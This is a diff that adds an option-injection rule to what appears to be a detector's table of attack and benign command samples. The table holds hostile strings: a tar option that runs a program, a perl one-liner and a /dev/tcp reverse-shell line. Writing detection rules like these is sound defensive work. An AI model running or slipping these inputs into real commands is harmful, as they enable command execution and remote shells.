@@ -72,6 +72,11 @@ export const COMMAND_RULES = {
     attack: "perl -e 'print 1'",
     benign: "perl and python compared",
   },
+  "command.option": {
+    title: "an option that runs a program, or reads or writes a file",
+    attack: "menu.tar --use-compress-program=id",
+    benign: "ask for the menu --please, and a table",
+  },
   "command.reverse-shell": {
     title: "a shell that calls back",
     attack: "x >/dev/tcp/10.0.0.1/99",
